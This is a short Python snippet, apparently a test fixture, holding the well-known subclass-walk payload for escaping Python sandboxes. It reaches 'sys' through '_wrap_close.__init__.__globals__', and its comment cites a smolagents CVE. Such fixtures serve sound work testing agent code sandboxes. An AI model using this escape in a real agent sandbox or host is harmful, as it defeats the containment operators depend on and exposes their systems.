# Walks from a tuple to every class there is (the classic walk over object's subclasses, in every pyjail collection; smolagents CVE-2025-9959)
# off: naive
found = [kind for kind in ().__class__.__base__.__subclasses__() if kind.__name__ == "_wrap_close"]
output["escaped"] = found[0].__init__.__globals__["sys"].__name__
